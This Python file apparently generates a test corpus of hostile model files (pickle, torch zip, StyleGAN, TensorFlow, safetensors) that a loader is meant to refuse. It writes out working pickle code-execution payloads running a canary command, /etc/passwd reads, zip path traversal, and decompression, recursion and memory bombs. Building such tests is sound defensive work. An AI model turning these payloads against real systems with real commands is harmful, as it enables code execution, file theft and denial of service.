"""Files that attack whoever opens them. Each entry writes one file; none of them may do anything but be refused.

Payloads run `touch $SOAT_CANARY` if anything executes them.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import random
import struct
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from foreign import (
    REFERENCE,
    TfNetwork,
    fake_modules,
    make_generator,
    nvidia_bytes,
    nvidia_module,
    rosinality_state,
    tf_bytes,
    torch_bytes,
)

COMMAND = b"touch $SOAT_CANARY"
CORPUS: dict[str, Callable[[Path], object]] = {}
# Files in which the attack sits where nobody looks, or where a changed byte may make no difference: they may load.
MAY_LOAD = ("unread/", "mutated/")


def entry(name):
    def register(function):
        CORPUS[name] = function
        return function

    return register


def content(name, data: bytes | Callable[[], bytes]):
    CORPUS[name] = lambda path: path.write_bytes(data() if callable(data) else data)


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def command() -> bytes:
    return b"X" + struct.pack("<I", len(COMMAND)) + COMMAND


# Calls, each as the opcodes that leave one object on the stack.

EVAL = text("__import__('os').system('touch $SOAT_CANARY')")
CALLS = {
    "reduce": b"cposix\nsystem\n" + command() + b"\x85R",
    "stack_global": b"\x8c\x05posix\x8c\x06system\x93" + command() + b"\x85R",
    "inst": b"(" + command() + b"iposix\nsystem\n",
    "obj": b"(cposix\nsystem\n" + command() + b"o",
    "newobj": b"csubprocess\nPopen\n(]" + text("sh") + b"a" + text("-c") + b"a" + command() + b"at\x81",
    "newobj_ex": b"csubprocess\nPopen\n" + command() + b"\x85}" + text("shell") + b"\x88s\x92",
    "build": b"csubprocess\nPopen\n)\x81}" + text("__class__") + b"cbuiltins\nobject\nsb",
    "build_setstate": b"cbuiltins\nobject\n)\x81}" + text("__setstate__") + b"cposix\nsystem\nsb" + command() + b"b",
    "eval": b"cbuiltins\neval\n" + EVAL + b"\x85R",
    "exec": b"cbuiltins\nexec\n" + EVAL + b"\x85R",
    "python2_eval": b"c__builtin__\neval\n" + EVAL + b"\x85R",
    "getattr": b"cbuiltins\ngetattr\ncos\n__dict__\n" + text("system") + b"\x86R" + command() + b"\x85R",
    "import": b"cbuiltins\n__import__\n" + text("antigravity") + b"\x85R",
    "importlib": b"cimportlib\nimport_module\n" + text("this") + b"\x85R",
    "dotted_name": b"\x8c\x08builtins\x8c\x0bint.__new__\x93\x8c\x05posix\x8c\x06system\x93\x86R",
    "partial": b"cfunctools\npartial\ncposix\nsystem\n" + command() + b"\x86R)R",
    "reconstructor": b"ccopyreg\n_reconstructor\ncsubprocess\nPopen\ncbuiltins\nobject\nN\x87R",
    "copyreg_newobj": b"ccopyreg\n__newobj__\ncsubprocess\nPopen\n" + command() + b"\x86R",
    "reduce_ex": b"cos\n__reduce_ex__\nK\x02\x85R",
    "torch_load": b"ctorch\nload\n" + text("/etc/passwd") + b"\x85R",
    "torch_hub": b"ctorch.hub\nload\n" + text("evil/repository") + text("model") + b"\x86R",
    "numpy_load": b"cnumpy\nload\n" + text("/etc/passwd") + b"\x85R",
    "open_for_writing": b"cbuiltins\nopen\n" + text("soat_was_here") + text("w") + b"\x86R",
    "bytearray": b"cbuiltins\nbytearray\n\x8a\x06\x00\x00\x00\x00\x00\x10\x85R",
    "typed_tensor": b"ctorch._tensor\n_rebuild_from_type_v2\n(cposix\nsystem\ncbuiltins\nint\n"
    + command()
    + b"\x85NtR",
    "persistent_id": b"(" + text("storage") + b"cposix\nsystem\n" + text("../../etc/passwd") + text("cpu") + b"K\x08tQ",
    "persistent_text": b"P" + COMMAND + b"\n",
    "extension": b"\x82\x01",
    "object_array": b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R(K\x01K\x01\x85"
    b"cnumpy\ndtype\n" + text("O8") + b"\x89\x88\x87R\x89](cposix\nsystem\n" + command() + b"\x85Retb",
}


def zip_of(entries: dict[str, bytes], method=zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def torch_zip(pickled: bytes, **storages: bytes) -> bytes:
    return zip_of({"a/data.pkl": pickled, "a/version": b"3\n", **{f"a/data/{k}": v for k, v in storages.items()}})


def legacy(pickled: bytes, keys=(), data: bytes = b"") -> bytes:
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    head = [pickle.dumps(item, 2) for item in (0x1950A86A20F9469CFC6C, 1001, system)]
    return b"".join(head) + pickled + pickle.dumps(list(keys), 2) + data


def nested(data: bytes) -> bytes:
    """A tensor whose storage is a torch file of its own, as in NVIDIA's pickles, inside a generator module."""
    storage = b"ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(data)) + data + b"\x85R"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00(K\x02K\x02tK\x02K\x01\x86\x89)tR"


def module(parameters: bytes) -> bytes:
    """The opcodes of a persistent module with `const` and `weight` parameters given as opcodes."""
    state = b"}(" + text("_parameters") + b"}(" + parameters + b"u" + text("_buffers") + b"}" + text("_modules") + b"}u"
    meta = b"}(" + text("module_src") + text("import os; os.system('touch $SOAT_CANARY')") + text("class_name")
    meta += text("Generator") + text("state") + state + b"u"
    return b"ctorch_utils.persistence\n_reconstruct_persistent_obj\n" + meta + b"\x85R"


for _name, _call in CALLS.items():
    content(f"pickle/{_name}", b"\x80\x04" + _call + b".")
    content(f"torch_zip/{_name}", torch_zip(b"\x80\x02" + _call + b"."))
    content(f"legacy/{_name}", legacy(b"\x80\x02" + _call + b"."))
    content(f"module/{_name}", b"\x80\x04}" + text("G_ema") + module(text("const") + _call) + b"s.")
    content(f"nested/{_name}", b"\x80\x04}" + text("G_ema") + module(text("const") + nested(_call + b".")) + b"s.")


def edited(change) -> Callable[[], bytes]:
    """A good NVIDIA pickle of which one weight's module has been changed: detection succeeds, the attack is inside."""

    def make() -> bytes:
        root = nvidia_module(make_generator(), clamp=None)
        synthesis = root.meta["state"]["_modules"]["synthesis"]
        block = synthesis.meta["state"]["_modules"]["b8"]
        change(root, block.meta["state"])
        return nvidia_bytes({"G_ema": root})

    return make


BASE = rosinality_state(make_generator())


class Execute:
    """Runs the payload when unpickled the ordinary way."""

    def __reduce__(self):
        return os.system, (COMMAND.decode(),)

    def __hash__(self):
        return 1


content(
    "nvidia/payload as weight",
    edited(lambda root, b8: b8["_modules"]["conv1"].meta["state"]["_parameters"].update(weight=Execute())),
)
content("nvidia/payload as module", edited(lambda root, b8: b8["_modules"].update(conv1=Execute())))
content("nvidia/payload as state", edited(lambda root, b8: root.meta.update(state=Execute())))
content("nvidia/payload as setting", edited(lambda root, b8: b8.update(architecture=Execute())))
content(
    "nvidia/payload as clamp",
    edited(lambda root, b8: b8["_modules"]["conv1"].meta["state"].update(conv_clamp=Execute())),
)
content(
    "nvidia/clamp not a number",
    edited(lambda root, b8: b8["_modules"]["conv1"].meta["state"].update(conv_clamp=float("nan"))),
)
content("nvidia/modules a list", edited(lambda root, b8: b8.update(_modules=[1, 2])))
content(
    "nvidia/parameters a text", edited(lambda root, b8: b8["_modules"]["conv1"].meta["state"].update(_parameters="abc"))
)
content("nvidia/module in itself", edited(lambda root, b8: b8["_modules"].update(conv1=root)))


content("unread/payload as source", edited(lambda root, b8: root.meta.update(module_src=Execute())))
content("unread/payload as class name", edited(lambda root, b8: root.meta.update(class_name=Execute())))
content(
    "unread/payload as hook", edited(lambda root, b8: b8.update(_forward_hooks={1: Execute()}, _init_kwargs=Execute()))
)
content(
    "unread/payload as discriminator", lambda: nvidia_bytes({"D": Execute(), "G_ema": nvidia_module(make_generator())})
)
content("unread/payload as arguments", lambda: torch_bytes({"args": Execute(), "g_ema": dict(BASE)}))
content("unread/payload in old file", lambda: torch_bytes({"args": Execute(), "g_ema": dict(BASE)}, legacy=True))


# Structures that explode when walked, hashed, compared or shown


def bomb(step: bytes, start: bytes, levels: int) -> bytes:
    """`start`, then `levels` times the last object doubled by `step`."""
    return b"\x80\x04" + start + step * levels + b"."


content("bomb/tuples", bomb(b"2\x86", b"N", 60))
content(
    "bomb/tuples as shape",
    b"\x80\x04}"
    + text("input.input")
    + b"ctorch._utils\n_rebuild_tensor_v2\n(NK\x00"
    + b"N"
    + b"2\x86" * 60
    + b")\x89)tRs.",
)
content("bomb/dict key", b"\x80\x04}N" + b"2\x86" * 60 + b"Ns.")
content("bomb/set item", b"\x80\x04\x8f(N" + b"2\x86" * 60 + b"\x90.")
content("bomb/nested lists", b"\x80\x04" + b"]" * 400_000 + b"a" * 399_999 + b".")
content("bomb/nested tuples", b"\x80\x04N" + b"\x85" * 900_000 + b".")
content("bomb/nested dicts", b"\x80\x04" + b"}K\x00" * 250_000 + b"N" + b"s" * 250_000 + b".")
content("bomb/marks", b"\x80\x04" + b"(" * 5_000_000 + b".")
content("bomb/instructions", b"\x80\x04" + b"}" * 30_000_000 + b".")
content(
    "bomb/memo", b"\x80\x04" + b"".join(b"Nr" + struct.pack("<I", 2**32 - 1 - i) + b"0" for i in range(300_000)) + b"N."
)
content("bomb/records", b"\x80\x04ca\nb\n\x94" + b"h\x00)R" * 300_000 + b".")
content("bomb/texts", b"\x80\x04" + (b"X\x00\x04\x00\x00" + b"x" * 1024) * 20_000 + b".")
content("cycle/list", b"\x80\x04]\x94h\x00a.")
content("cycle/dict", b"\x80\x04}\x94" + text("g_ema") + b"h\x00s.")
content("cycle/state dict", b"\x80\x04}\x94" + text("state_dict") + b"h\x00s" + text("params") + b"h\x00s.")
content("cycle/record", b"\x80\x04ca\nb\n)R\x94h\x00b.")
content(
    "cycle/module",
    b"\x80\x04}" + text("G_ema") + b"ca\nb\n)R\x94}" + text("_modules") + b"}" + text("m") + b"h\x00ssbs.",
)


@entry("bomb/shared dicts")
def shared_dicts(path):
    """100,000 names of one dict with 100,000 names."""
    names = b"".join(text(f"k{i}") + b"N" for i in range(100_000))
    path.write_bytes(b"\x80\x04}(" + names + b"u\x940}(" + names.replace(b"N", b"h\x00") + b"u.")


@entry("bomb/shared modules")
def shared_modules(path):
    """1,000 modules that share a dict of 50,000 children."""
    children = b"}(" + b"".join(text(f"k{i}") + b"N" for i in range(50_000)) + b"u\x94"
    start, end = b"ca\nb\n)R}" + text("_modules"), b"sb"
    modules = b"".join(text(f"m{i}") + start + b"h\x00" + end for i in range(1000))
    path.write_bytes(b"\x80\x04" + children + b"0}" + text("G_ema") + start + b"}(" + modules + b"u" + end + b"s.")


@entry("bomb/dicts that double")
def doubling_dicts(path):
    step = b"}(" + text("g_ema") + b"h%c" + text("a") + b"h%c" + b"u\x94"
    path.write_bytes(b"\x80\x04}\x94" + b"".join(step % (i, i) for i in range(60)) + b".")


@entry("bomb/modules that double")
def doubling_modules(path):
    leaf = b"ca\nb\n)R}" + text("_modules") + b"}sb\x94"
    levels = b"".join(
        b"ca\nb\n)R}"
        + text("_modules")
        + b"}("
        + text("a")
        + b"h"
        + bytes([i])
        + text("b")
        + b"h"
        + bytes([i])
        + b"usb\x94"
        for i in range(60)
    )
    path.write_bytes(b"\x80\x04" + leaf + levels + b"\x85.")


# Lengths that lie

content("length/integer", b"\x80\x04\x8b" + struct.pack("<I", 2**31 - 1) + b"\x01" * 10)
content("length/large integer", b"\x80\x04\x8b" + struct.pack("<I", 8_000_000) + b"\x7f" * 8_000_000 + b".")
content("length/decimal integer", b"\x80\x04I" + b"9" * 3_000_000 + b"\n.")
content("length/decimal long", b"\x80\x04L" + b"9" * 900 + b"L\n.")
content("length/bytes8", b"\x80\x04\x8e" + struct.pack("<Q", 2**63) + b".")
content("length/bytes4", b"\x80\x04B" + struct.pack("<I", 2**32 - 1) + b".")
content("length/bytearray8", b"\x80\x05\x96" + struct.pack("<Q", 2**62) + b".")
content("length/unicode8", b"\x80\x04\x8d" + struct.pack("<Q", 2**64 - 1) + b".")
content("length/string", b"\x80\x02T" + struct.pack("<i", -5) + b"abc.")
content("length/frame", b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"N.")
content("length/line", b"\x80\x04c" + b"a" * 5_000_000)
content("length/out of band", b"\x80\x05\x97\x98.")
content("stack/empty", b"\x80\x04.")
content("stack/underflow", b"\x80\x04a.")
content("stack/no mark", b"\x80\x04N0t.")
content("stack/unknown memo", b"\x80\x04h\x07.")
content("stack/unknown opcode", b"\x80\x04\xff.")
content("stack/number as name", b"\x80\x04K\x01K\x02\x93.")
content("stack/not a number", b"\x80\x04Iabc\n.")
content("stack/items of a number", b"\x80\x04K\x01K\x02K\x03s.")


# Tensors that lie


def tensor_op(shape: tuple, stride: tuple, offset=0, count=4, kind="FloatStorage", key="0") -> bytes:
    def number(value):
        data = value.to_bytes(16, "little", signed=True)
        return b"\x8a\x10" + data

    def numbers(values):
        return b"(" + b"".join(map(number, values)) + b"t"

    pid = b"(" + text("storage") + f"ctorch\n{kind}\n".encode() + text(key) + text("cpu") + number(count) + b"tQ"
    return (
        b"ctorch._utils\n_rebuild_tensor_v2\n(" + pid + number(offset) + numbers(shape) + numbers(stride) + b"\x89)tR"
    )


def with_tensor(name: str, operation: bytes) -> Callable[[], bytes]:
    """A good rosinality file of which one tensor is described by other opcodes."""

    def make() -> bytes:
        archive = zipfile.ZipFile(io.BytesIO(torch_bytes(dict(BASE))))
        entries = {entry: archive.read(entry) for entry in archive.namelist()}
        pickled = next(entry for entry in entries if entry.endswith("data.pkl"))
        entries[pickled] = entries[pickled][:-1] + text(name) + operation + b"s."
        return zip_of(entries)

    return make


WEIGHT, SHAPE = "convs.1.conv.weight", (1, 10, 10, 3, 3)
content("tensor/huge shape", with_tensor(WEIGHT, tensor_op((1, 1 << 20, 1 << 20, 3, 3), (9, 9, 9, 3, 1))))
content("tensor/absurd shape", with_tensor(WEIGHT, tensor_op((1 << 90,) * 5, (1,) * 5)))
content("tensor/negative shape", with_tensor(WEIGHT, tensor_op((1, -10, -10, 3, 3), (900, 90, 9, 3, 1))))
content("tensor/repeated by stride", with_tensor(WEIGHT, tensor_op(SHAPE, (0, 0, 0, 0, 0))))
content("tensor/negative stride", with_tensor(WEIGHT, tensor_op(SHAPE, (-1, -1, -1, -1, -1))))
content("tensor/huge stride", with_tensor(WEIGHT, tensor_op(SHAPE, (1 << 39,) * 5)))
content("tensor/offset", with_tensor(WEIGHT, tensor_op(SHAPE, (900, 90, 9, 3, 1), offset=1 << 60)))
content("tensor/negative offset", with_tensor(WEIGHT, tensor_op(SHAPE, (900, 90, 9, 3, 1), offset=-4)))
content("tensor/missing storage", with_tensor(WEIGHT, tensor_op(SHAPE, (900, 90, 9, 3, 1), key="../../../etc/passwd")))
content("tensor/many dimensions", with_tensor(WEIGHT, tensor_op((1,) * 100, (1,) * 100)))
content("tensor/quantised", with_tensor(WEIGHT, b"ctorch._utils\n_rebuild_qtensor\n)R"))
content("tensor/not a tensor", with_tensor(WEIGHT, b"K\x05"))
content("tensor/payload", with_tensor(WEIGHT, CALLS["reduce"]))
content("tensor/no levels", with_tensor("style.1.weight", tensor_op((0, 0), (0, 0))))
content(
    "tensor/first of many levels", with_tensor("to_rgbs.3.conv.weight", tensor_op((1, 1, 1, 1, 1), (1, 1, 1, 1, 1)))
)


@entry("tensor/one storage for all")
def one_storage(path):
    """Weights that would take a terabyte, all of them views of the same 37 MB."""
    side = 1000
    storage = torch.zeros(side * side * 9 + 1)

    def view(*shape):
        return storage[: int(torch.Size(shape).numel())].view(shape)

    state = OrderedDict()
    for level in range(9):
        names = ["conv1"] if level == 0 else [f"convs.{2 * level - 2}", f"convs.{2 * level - 1}"]
        for name in names:
            state[f"{name}.conv.weight"] = view(1, side, side, 3, 3)
            state[f"{name}.conv.modulation.weight"] = view(side, side)
            state[f"{name}.conv.modulation.bias"] = view(side)
            state[f"{name}.noise.weight"] = view(1)
            state[f"{name}.activate.bias"] = view(side)
        name = "to_rgb1" if level == 0 else f"to_rgbs.{level - 1}"
        state[f"{name}.conv.weight"] = view(1, 3, side, 1, 1)
        state[f"{name}.conv.modulation.weight"] = view(side, side)
        state[f"{name}.conv.modulation.bias"] = view(side)
        state[f"{name}.bias"] = view(1, 3, 1, 1)
    for index in range(1, 65):
        state[f"style.{index}.weight"], state[f"style.{index}.bias"] = view(side, side), view(side)
    state["input.input"] = view(1, side, 4, 4)
    torch.save(state, path)


@entry("tensor/thousands of levels")
def thousands_of_levels(path):
    """Would make a picture of 2 to the power of 20,000 pixels."""
    tensor = tensor_op((1, 1, 1, 1, 1), (1, 1, 1, 1, 1))
    names = [f"convs.{i}.conv.weight" for i in range(40_000)] + [f"to_rgbs.{i}.conv.weight" for i in range(20_000)]
    names += ["conv1.conv.weight"]
    body = b"".join(text(name) + b"h\x01" for name in names)
    square = tensor_op((1, 1, 4, 4), (16, 16, 4, 1), count=16)
    body += text("input.input") + square
    path.write_bytes(torch_zip(b"\x80\x02" + tensor + b"q\x010}(" + body + b"u.", **{"0": bytes(64)}))


for _value in ("nan", "inf", "-inf"):

    @entry(f"values/{_value}")
    def not_finite(path, value=_value):
        state = dict(BASE)
        state["style.3.bias"] = torch.full((14,), float(value))
        torch.save(state, path)


for _dtype in (torch.float64, torch.int64, torch.complex64, torch.bool, torch.float8_e4m3fn):

    @entry(f"values/{_dtype}")
    def wrong_dtype(path, dtype=_dtype):
        state = dict(BASE)
        state["style.3.bias"] = torch.ones(14).to(dtype)
        torch.save(state, path)


# Zip archives

GOOD_ZIP = (REFERENCE / "rosinality_256_a.pt").read_bytes()
STATE = b"\x80\x02}."
content("zip/bomb", lambda: zip_of({"a/data.pkl": b"\x80\x02" + b"\x00" * 200_000_000}, zipfile.ZIP_DEFLATED))
content("zip/compressed", lambda: zip_of({"a/data.pkl": STATE}, zipfile.ZIP_DEFLATED))
content("zip/parent folder", lambda: zip_of({"a/data.pkl": STATE, "a/../../../tmp/soat_was_here": b"x"}))
content("zip/absolute path", lambda: zip_of({"a/data.pkl": STATE, "/tmp/soat_was_here": b"x"}))
content("zip/backslashes", lambda: zip_of({"a/data.pkl": STATE, "a\\..\\..\\x": b"x"}))
content("zip/no pickle", lambda: zip_of({"a/readme.txt": b"x"}))
content("zip/two pickles", lambda: zip_of({"a/data.pkl": STATE, "b/data.pkl": STATE}))
content("zip/pickle of nothing", lambda: zip_of({"a/data.pkl": b""}))
content("zip/in a zip", lambda: zip_of({"a/data.pkl": GOOD_ZIP}))
content("zip/big endian", lambda: zip_of({"a/data.pkl": STATE, "a/byteorder": b"big"}))
content("zip/not an archive", b"PK\x03\x04" + b"\x00" * 100)
content("zip/end only", b"PK\x05\x06" + b"\x00" * 18)


def patched(offset_from: bytes, position: int, value: bytes, last: bool = False) -> Callable[[], bytes]:
    """A small good archive with bytes changed at a place behind a signature."""

    def make() -> bytes:
        data = bytearray(zip_of({"a/data.pkl": STATE, "a/data/0": bytes(64), "a/data/1": bytes(64)}))
        start = (data.rfind if last else data.find)(offset_from) + position
        data[start : start + len(value)] = value
        return bytes(data)

    return make


CENTRAL, END, LOCAL = b"PK\x01\x02", b"PK\x05\x06", b"PK\x03\x04"
content("zip/huge entry", patched(CENTRAL, 20, struct.pack("<II", 0xFFFFFFF0, 0xFFFFFFF0)))
content("zip/huge 64-bit entry", patched(CENTRAL, 20, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF)))
content("zip/entry outside", patched(CENTRAL, 42, struct.pack("<I", 0x7FFFFFFF)))
content("zip/overlapping entries", patched(CENTRAL, 20, struct.pack("<II", 150, 150)))
content("zip/same entry twice", patched(CENTRAL, 42, struct.pack("<I", 0), last=True))
content("zip/encrypted", patched(CENTRAL, 8, struct.pack("<H", 1)))
content("zip/name differs inside", patched(LOCAL, 30, b"b/data.pkl"))
content("zip/entry count", patched(END, 10, struct.pack("<H", 65535)))
content("zip/directory size", patched(END, 12, struct.pack("<I", 0xFFFFFFF0)))
content("zip/directory outside", patched(END, 16, struct.pack("<I", 0xFFFFFFF0)))
content("zip/comment", patched(END, 20, struct.pack("<H", 500)))


@entry("zip/duplicate names")
def duplicate_names(path):
    data = bytearray(zip_of({"a/data.pkl": STATE, "a/data.pkx": STATE}))
    path.write_bytes(bytes(data).replace(b"data.pkx", b"data.pkl"))


@entry("zip/64-bit directory that lies")
def lying_zip64(path):
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 2**60, 2**60, 2**60, 2**60)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, 4, 1)
    path.write_bytes(b"PK\x03\x04" + record + locator + b"PK\x05\x06" + b"\xff" * 16 + b"\0\0")


@entry("zip/many entries")
def many_entries(path):
    with zipfile.ZipFile(path, "w") as archive:
        for index in range(20_000):
            archive.writestr(f"a/data/{index}", b"")


# torch's old format

FLOATS = tensor_op((2, 2), (2, 1), count=4)
KEYED = b"\x80\x02}" + text("input.input") + FLOATS + b"s."
content("legacy/count", legacy(KEYED, ["0"], struct.pack("<q", 2**62)))
content("legacy/negative count", legacy(KEYED, ["0"], struct.pack("<q", -8)))
content("legacy/unknown key", legacy(KEYED, ["x"], struct.pack("<q", 4) + bytes(16)))
content("legacy/keys are no texts", legacy(KEYED, [b"x", 3, None], bytes(100)))
content("legacy/no data", legacy(KEYED, ["0"]))
content("legacy/many keys", lambda: legacy(KEYED, ["0"] * 150_000))
content("legacy/other magic", pickle.dumps(0x1950A86A20F9469CFC6D, 2) + b"\x80\x02K\x01.")
content("legacy/magic only", pickle.dumps(0x1950A86A20F9469CFC6C, 2))


# TensorFlow


def tf_network(**state) -> bytes:
    class Network(TfNetwork):
        def __init__(self):
            self.state = {"version": 4, "name": "Gs", "static_kwargs": {}, "components": {}, "variables": [], **state}

    with fake_modules(dnnlib__tflib__network={"Network": Network}):
        return pickle.dumps((None, None, Network()), protocol=4)


content("tensorflow/variables a text", lambda: tf_network(variables="abc", components=[1]))
content("tensorflow/payload as variable", lambda: tf_network(variables=[("synthesis/4x4/Conv/mod_weight", Execute())]))
content("tensorflow/payload as source", lambda: tf_network(build_module_src=Execute(), static_kwargs={"a": Execute()}))
content("tensorflow/payload as setting", lambda: tf_bytes(make_generator(), architecture=Execute()))
content(
    "tensorflow/object array", lambda: tf_bytes(make_generator(), extra={"noise0": np.array([[[[Execute()]]]], object)})
)
content(
    "tensorflow/network in itself",
    b"\x80\x04cdnnlib.tflib.network\nNetwork\n)\x81\x94}" + text("components") + b"}" + text("a") + b"h\x00ssb.",
)


# safetensors


def safe(header, data: bytes = b"", length: int | None = None) -> bytes:
    encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(encoded) if length is None else length) + encoded + data


def tensor_entry(start=0, end=16, shape=(4,), dtype="F32"):
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [start, end]}


def ours(**changes) -> bytes:
    """A header with a configuration but for some changes, and one tensor."""
    config = json.loads(make_generator().config.to_json())
    config.update(changes)
    metadata = {"config": json.dumps(config), "provenance": "{}"}
    return safe({"__metadata__": metadata, "synthesis.b4.const": tensor_entry()}, bytes(16))


def ours_in_full(**changes) -> bytes:
    """A good file but for its configuration."""
    generator = make_generator()
    config = {**json.loads(generator.config.to_json()), **changes}
    from safetensors.torch import save

    return save(dict(generator.state_dict()), {"config": json.dumps(config)})


content("safetensors/huge header", safe({}, length=2**63))
content("safetensors/header longer than the file", safe({}, length=4000))
content("safetensors/not json", safe(b"{abc}"))
content("safetensors/not text", safe(b"{\xff\xfe}"))
content("safetensors/nested", safe(b'{"a":' + b"[" * 200_000 + b"]" * 200_000 + b"}"))
content(
    "safetensors/giant number", safe(b'{"a":{"dtype":"F32","shape":[' + b"9" * 100_000 + b'],"data_offsets":[0,4]}}')
)
content(
    "safetensors/duplicate keys",
    safe(
        b'{"a":' + json.dumps(tensor_entry()).encode() + b',"a":' + json.dumps(tensor_entry()).encode() + b"}",
        bytes(16),
    ),
)
content("safetensors/overlap", safe({"a": tensor_entry(), "b": tensor_entry(8, 24)}, bytes(24)))
content("safetensors/gap", safe({"a": tensor_entry(), "b": tensor_entry(20, 36)}, bytes(36)))
content("safetensors/trailing bytes", safe({"a": tensor_entry()}, bytes(40)))
content("safetensors/outside", safe({"a": tensor_entry(0, 2**62)}, bytes(16)))
content("safetensors/overflow", safe({"a": tensor_entry(2**64 - 8, 8, (2**62, 4))}, bytes(16)))
content("safetensors/negative offset", safe({"a": tensor_entry(-16, 0)}, bytes(16)))
content("safetensors/backwards", safe({"a": tensor_entry(16, 0)}, bytes(16)))
content("safetensors/shape disagrees", safe({"a": tensor_entry(shape=(2**31, 2**31, 2**31))}, bytes(16)))
content("safetensors/negative shape", safe({"a": tensor_entry(shape=(-2, -2))}, bytes(16)))
content("safetensors/text shape", safe({"a": {"dtype": "F32", "shape": "4", "data_offsets": [0, 16]}}, bytes(16)))
content("safetensors/boolean shape", safe({"a": tensor_entry(shape=(True, 4))}, bytes(16)))
content("safetensors/real shape", safe({"a": tensor_entry(shape=(4.0,))}, bytes(16)))
content("safetensors/unknown type", safe({"a": tensor_entry(dtype="F8_E5M2")}, bytes(16)))
content("safetensors/entry a number", safe({"a": 4}, bytes(16)))
content("safetensors/metadata a list", safe({"__metadata__": [1]}))
content("safetensors/metadata of numbers", safe({"__metadata__": {"config": 5}}))
content("safetensors/empty", safe({}))
content("safetensors/only a config", lambda: ours())
content("safetensors/config gigantic", lambda: ours(img_resolution=2**70, z_dim=10**30))
content("safetensors/config infinite", lambda: ours(img_resolution=float("inf")))
content("safetensors/config not a number", lambda: ours(z_dim=float("nan")))
content("safetensors/config of texts", lambda: ours(channels="many", z_dim="x" * 1000))
content(
    "safetensors/config nested",
    lambda: safe({"__metadata__": {"config": '{"architecture":"stylegan2","z_dim":' + "[" * 100_000}}),
)
content("safetensors/config other resolution", lambda: ours_in_full(img_resolution=64))
content("safetensors/config other channels", lambda: ours_in_full(channels={"4": 2**40, "8": 10, "16": 8, "32": 6}))
content("safetensors/config many channels", lambda: ours_in_full(channels={str(4 << i): 9 for i in range(500)}))
content("safetensors/config endless mapping", lambda: ours_in_full(mapping_layers=10**9))
content("safetensors/config classes", lambda: ours_in_full(c_dim=10**12))
content("safetensors/config clamp", lambda: ours_in_full(conv_clamp=float("nan")))
content("safetensors/config filter", lambda: ours_in_full(resample_filter=[1, 2, 1]))


# Things that are no files, or hardly

content("file/empty", b"")
content("file/one byte", b"\x80")
content("file/text", b"hello world\n")
content("file/zeros", bytes(100_000))
content("file/0xff", b"\xff" * 100_000)
CORPUS["file/folder"] = lambda path: path.mkdir()
CORPUS["file/pipe"] = os.mkfifo
CORPUS["file/link to a device"] = lambda path: path.symlink_to("/dev/zero")
CORPUS["file/link to itself"] = lambda path: path.symlink_to(path)
CORPUS["file/link to nothing"] = lambda path: path.symlink_to("/nowhere/at/all")
CORPUS["file/nothing"] = lambda path: None


def sparse(path: Path, head: bytes, tail: bytes = b"") -> None:
    """A file of 64 GiB that takes no space."""
    with path.open("wb") as file:
        file.write(head)
        file.seek(64 << 30)
        file.write(tail or b"\0")


CORPUS["file/sparse pickle"] = lambda path: sparse(path, b"\x80\x04\x8e" + struct.pack("<Q", 1 << 30))
CORPUS["file/sparse line"] = lambda path: sparse(path, b"\x80\x04c")
CORPUS["file/sparse zip"] = lambda path: sparse(path, b"PK\x03\x04", b"PK\x05\x06" + b"\xff" * 16 + b"\0\0")
CORPUS["file/sparse safetensors"] = lambda path: sparse(path, struct.pack("<Q", 1 << 35) + b"{")


# Truncations at every 64th, and changed bytes, of every kind of file

WHOLE = {
    "zip": GOOD_ZIP,
    "nvidia": (REFERENCE / "nvidia_ada_32.pkl").read_bytes(),
    "legacy": torch_bytes({"g_ema": dict(BASE)}, legacy=True),
    "tensorflow": tf_bytes(make_generator()),
    "safetensors": ours_in_full(),
}
MUTATIONS = 24


def mutated(data: bytes, seed: int) -> bytes:
    """Some bytes changed, most of them near the start, where the structure is."""
    changed, chance = bytearray(data), random.Random(seed)
    for _ in range(chance.choice((1, 4, 16))):
        changed[int(len(changed) * chance.random() ** 4)] = chance.randrange(256)
    return bytes(changed)


for _kind, _data in WHOLE.items():
    for _part in range(64):
        content(f"truncated/{_kind} {_part}/64", _data[: len(_data) * _part // 64])
    for _seed in range(MUTATIONS):
        content(f"mutated/{_kind} {_seed}", lambda data=_data, seed=_seed: mutated(data, seed))
